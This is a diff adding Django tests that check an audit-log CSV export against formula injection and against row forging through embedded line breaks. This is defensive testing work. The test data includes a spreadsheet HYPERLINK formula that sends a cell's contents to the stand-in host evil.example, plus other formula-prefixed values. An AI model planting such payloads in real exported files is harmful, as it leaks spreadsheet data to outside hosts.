@@ -11,6 +11,7 @@ import pytest
 from django.core.management import call_command
 from django.core.management.base import CommandError
 from django.db import connection
+from django.test import Client
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
@@ -114,6 +115,34 @@ def test_export_csv_has_a_header_and_one_row_per_event(user, other_user):
     assert [r["event"] for r in rows] == ["consent.granted", "token.issued", "token.refused"]
     assert rows[0]["actor_chain"] == "agent:b agent:a"
     assert rows[1]["ip"] == ""
+
+
+def test_export_csv_neutralises_formulas_that_unauthenticated_requests_wrote():
+    """A token request that authenticates nothing is recorded with the client id and scope it
+    claimed; opened in a spreadsheet, a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
+    carriage return would run as a formula (OWASP "CSV injection")."""
+    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+    for value in hostile:
+        Client().post("/o/token/", {"grant_type": "client_credentials", "client_id": value, "scope": value})
+    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"), newline="")))
+    assert len(rows) == len(hostile)
+    for row in rows:
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
+    assert sorted(row["client_id"] for row in rows) == sorted("'" + value for value in hostile)
+    assert sorted(row["scope"] for row in rows) == sorted("'" + value for value in hostile)
+    exact = sorted(json.loads(line)["client_id"] for line in export().splitlines())
+    assert exact == sorted(hostile)  # JSON Lines keep the exact values
+
+
+def test_export_csv_keeps_a_line_break_inside_its_cell():
+    """A claimed client id or scope with a line break (no comma, so nothing else asks for
+    quotes) must stay in its cell, not split the row into a second, forged one."""
+    client_id, scope = "x\n2020-01-01T00:00:00Z", "calendar.read\rgrant.revoked"
+    Client().post("/o/token/", {"grant_type": "client_credentials", "client_id": client_id, "scope": scope})
+    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"), newline="")))
+    assert [(row["event"], row["client_id"], row["scope"]) for row in rows] == [
+        ("token.refused", client_id, scope)
+    ]
 
 
 def test_export_keeps_a_deleted_users_rows_by_username(user, other_user):
